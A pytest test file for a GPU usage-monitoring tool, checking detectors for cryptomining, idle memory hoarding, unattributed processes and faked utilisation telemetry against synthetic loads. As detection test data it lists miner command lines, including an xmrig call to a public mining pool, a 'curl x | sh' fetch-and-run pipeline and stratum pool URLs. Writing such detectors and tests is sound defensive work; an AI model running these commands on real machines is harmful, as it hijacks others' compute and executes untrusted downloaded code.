"""What each detector says about loads we made up ourselves, and on what it keeps quiet."""

import numpy as np
import pytest

from compute_guard.usage.attribution import Lease, LeaseBook, Use
from compute_guard.usage.detectors import Detector, View, load_detectors
from compute_guard.usage.detectors.idle_hoard import IdleHoard
from compute_guard.usage.detectors.mining_indicator import MiningIndicator
from compute_guard.usage.detectors.mining_signature import MiningSignature
from compute_guard.usage.detectors.telemetry_contradiction import TelemetryContradiction
from compute_guard.usage.detectors.unattributed_process import NOBODY, UnattributedProcess
from compute_guard.usage.rolling import Rolling
from compute_guard.usage.samples import Device, Frame
from compute_guard.usage.sources.synthetic import SECOND, Load, SyntheticSource
from guard_core.errors import UserError

STEP = 15 * SECOND
SEEDS = 12  # devices per kind; thresholds were frozen on other seeds


def watch(loads, detectors, samples=120, seed=9000, book=None, drop=()):
    """First sample at which each (device, channel) was reported: ``{(device index, channel): sample}``."""
    rolling = Rolling(STEP, 48)
    first = {}
    for number, frame in enumerate(SyntheticSource(tuple(loads), samples, seed).frames()):
        values = {k: v for k, v in frame.values.items() if k not in drop}
        rolling.push(Frame(frame.devices, frame.ts_ns, frame.device, values, frame.processes))
        view = View(rolling.snapshot(), book or LeaseBook())
        for detector in detectors:
            for signal in detector.detect(view):
                index = int(signal.device.rsplit("-", 1)[1])
                first.setdefault((index, signal.channel), number)
                assert signal.synthetic
                assert 0 <= signal.score <= 1000
    return first


def many(kind, **more):
    return [Load(kind, index=i, **more) for i in range(SEEDS)]


HONEST = ["training", "training-flat", "training-fp32", "inference", "idle-hold", "free"]


@pytest.mark.parametrize("kind", HONEST)
def test_nothing_is_said_about_honest_work(kind):
    assert watch(many(kind), load_detectors(), samples=200) == {}


@pytest.mark.parametrize("before", ["idle-hold", "inference", "training"])
@pytest.mark.parametrize("kind", ["mining-full", "mining-capped"])
def test_flat_mining_at_any_level_is_seen_within_six_samples(before, kind):
    seen = watch(many(before, after=kind, onset=60), [MiningSignature()], samples=80)
    assert len(seen) == SEEDS
    assert max(seen.values()) - 60 < 6
    assert min(seen.values()) >= 60


def test_where_a_pool_is_named_three_flat_samples_are_enough_and_honest_work_stays_honest():
    def marked(loads):
        return LeaseBook.of(
            Lease(x.device.key, "acme", f"job-{x.index}", entrypoint="x stratum+tcp://pool.invalid:1")
            for x in loads
        )

    miners = many("training", after="mining-capped", onset=60)
    seen = watch(miners, [MiningSignature()], samples=70, book=marked(miners))
    assert len(seen) == SEEDS
    assert min(seen.values()) >= 60
    assert max(seen.values()) - 60 < 3
    for kind in HONEST[:4]:
        assert watch(many(kind), [MiningSignature()], samples=120, book=marked(many(kind))) == {}


@pytest.mark.parametrize("kind", ["mining-ramped", "mining-duty"])
def test_mining_that_hides_its_flatness_is_seen_within_ten_minutes(kind):
    seen = watch(many("idle-hold", after=kind, onset=60), [MiningSignature()], samples=120)
    assert len(seen) == SEEDS
    assert max(seen.values()) - 60 <= 41


def test_without_tensor_counters_a_cap_still_shows_and_full_training_does_not():
    counters = ("tensor_active", "dram_active")
    assert len(watch(many("mining-capped"), [MiningSignature()], samples=60, drop=counters)) == SEEDS
    assert watch(many("training-flat"), [MiningSignature()], samples=120, drop=counters) == {}


def test_a_flat_simulation_looks_like_a_miner_to_telemetry_alone():
    # Said openly in docs/rules/USAG001.md: this is why one channel is only ever a warning.
    assert len(watch(many("simulation"), [MiningSignature()], samples=30)) == SEEDS


def test_a_faked_utilisation_is_contradicted_by_several_sensors_within_two_minutes():
    seen = watch(many("mining-full", faked_util=0.0), [TelemetryContradiction()], samples=40)
    for index in range(SEEDS):
        channels = {channel for device, channel in seen if device == index}
        assert {"power", "energy", "temperature"} <= channels
    assert max(seen.values()) <= 8


def test_power_that_disagrees_with_the_energy_counter_is_a_contradiction():
    rolling = Rolling(STEP, 48)
    device = Device("n", "GPU-1")
    for t in range(20):
        values = {
            "util_percent": [80],
            "power_w": [100],
            "power_limit_w": [700],
            "energy_j": [t * 15 * 500.0],
        }
        arrays = {
            k: np.asarray(v, dtype=np.float64 if k == "energy_j" else np.float32) for k, v in values.items()
        }
        rolling.push(Frame((device,), np.asarray([t * STEP]), np.zeros(1, dtype=np.int32), arrays))
    (signal,) = TelemetryContradiction().detect(View(rolling.snapshot()))
    assert signal.channel == "energy"
    assert not signal.synthetic


def test_a_device_with_no_sensors_but_utilisation_contradicts_nothing():
    bare = (
        "power_w",
        "power_limit_w",
        "energy_j",
        "temperature_c",
        "tensor_active",
        "dram_active",
        "sm_clock_mhz",
    )
    assert watch(many("mining-full", faked_util=0.0), load_detectors(), samples=60, drop=bare) == {}


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("python train.py --epochs 3", []),
        ("python data_miner.py --coins-dataset x.csv", []),
        ("/tmp/.x/xmrig -o pool.supportxmr.com:443", ["pool", "xmrig"]),
        ("bash -c 'curl x | sh; ./T-Rex.exe -a kawpow'", ["t-rex"]),
        ("python burn.py --url stratum+tcp://pool.invalid:3333", ["pool"]),
        ("python -m http.server --donate-level=1", ["pool"]),
        ("python tune.py --pool-size 4 --stratum layer", []),
    ],
)
def test_a_command_is_a_miners_by_name_protocol_option_or_pool(command, found):
    assert MiningIndicator().indicators(command) == found


def moment(uses=(), leases=(), cells=3):
    rolling = Rolling(STEP, 48)
    device = Device("n", "GPU-1")
    for t in range(cells):
        rolling.push(Frame((device,), np.asarray([t * STEP]), np.zeros(1, dtype=np.int32), {}))
    return View(rolling.snapshot(), LeaseBook.of(leases), {device.key: tuple(uses)})


def test_a_miners_process_is_an_indicator_and_its_command_line_is_not_kept():
    lease = Lease("n/GPU-1", "acme", "job-1", entrypoint="sh -c 'xmrig --pass hunter2'")
    (signal,) = MiningIndicator().detect(moment([Use(7, "XMRig")], [lease]))
    assert signal.evidence["indicators"] == ["entrypoint:xmrig", "process:xmrig"]
    assert "hunter2" not in str(signal)


def test_names_of_ones_own_can_be_added():
    assert MiningIndicator(names=("hashburn",)).indicators("python hashburn.py") == ["hashburn"]


def test_a_stranger_on_a_leased_device_breaks_an_invariant():
    lease = Lease("n/GPU-1", "acme", "job-1", pids=frozenset({1}))
    (signal,) = UnattributedProcess().detect(moment([Use(1, "python", 90), Use(9, "a.out", 5)], [lease]))
    assert signal.invariant
    assert (signal.tenant, signal.job) == (NOBODY, "n/GPU-1")
    assert signal.evidence["pids"] == [9]


def test_the_platforms_processes_and_torn_down_contexts_are_left_alone():
    uses = [Use(5, "nv-hostengine", memory_bytes=2**20), Use(6, "python", memory_bytes=2**20)]
    assert list(UnattributedProcess().detect(moment(uses))) == []


def hold(kind, samples, **parameters):
    rolling = Rolling(STEP, 48)
    lease = Lease("syn-node/SYN-syn-node-0", "acme", "job-1", kind=kind)
    for frame in SyntheticSource((Load("idle-hold"),), samples, 1).frames():
        rolling.push(frame)
    return list(IdleHoard(**parameters).detect(View(rolling.snapshot(), LeaseBook.of([lease]))))


def test_holding_memory_beyond_the_grace_is_reported_with_hours_and_gibibytes():
    (signal,) = hold("batch", 300, batch_hours=1.0)
    assert signal.evidence["idle_hours"] > 1
    assert (signal.tenant, signal.job) == ("acme", "job-1")
    assert not signal.invariant


def test_within_its_grace_nobody_is_hoarding():
    assert hold("batch", 200, batch_hours=1.0) == []
    assert hold("notebook", 300, batch_hours=1.0, notebook_hours=8.0) == []
    assert hold("service", 300, batch_hours=1.0) == []


def test_a_moment_of_work_ends_the_holding():
    rolling = Rolling(STEP, 48)
    load = Load("idle-hold", after="training", onset=280)
    for frame in SyntheticSource((load,), 300, 1).frames():
        rolling.push(frame)
    lease = Lease(load.device.key, "acme", "job-1")
    assert list(IdleHoard(batch_hours=0.5).detect(View(rolling.snapshot(), LeaseBook.of([lease])))) == []


def test_detectors_are_found_configured_and_switched_off_by_name():
    names = {type(d).__name__ for d in load_detectors()}
    assert names == {
        "AbnormalExport",
        "AtypicalLoad",
        "ControlPlaneAbuse",
        "CrossTenant",
        "IdleHoard",
        "MemoryCreep",
        "MiningIndicator",
        "MiningSignature",
        "NewEntrypoint",
        "OffHours",
        "OverQuota",
        "RegimeChange",
        "SensorIntegrity",
        "Straggler",
        "SubmissionBurst",
        "TelemetryContradiction",
        "UnattributedProcess",
        "UnusualCourse",
    }
    assert all(isinstance(d, Detector) for d in load_detectors())
    configured = load_detectors({"idle_hoard": {"batch_hours": 4}, "mining_indicator": {"enabled": False}})
    assert IdleHoard(batch_hours=4) in configured
    assert not any(isinstance(d, MiningIndicator) for d in configured)


def test_a_misspelt_detector_or_parameter_is_named():
    with pytest.raises(UserError, match="no parameter 'batch_hour'"):
        load_detectors({"idle_hoard": {"batch_hour": 4}})
    with pytest.raises(UserError, match="no detector 'idle_horde'"):
        load_detectors({"idle_horde": {}})


def test_a_window_full_of_gaps_makes_no_detector_speak_or_fail():
    rolling = Rolling(STEP, 48)
    device = Device("n", "GPU-1")
    for t in (0, 40, 90, 91, 200):
        arrays = {
            "util_percent": np.asarray([np.nan], dtype=np.float32),
            "power_w": np.asarray([600], dtype=np.float32),
        }
        rolling.push(Frame((device,), np.asarray([t * STEP]), np.zeros(1, dtype=np.int32), arrays))
        for detector in load_detectors():
            assert list(detector.detect(View(rolling.snapshot()))) == []
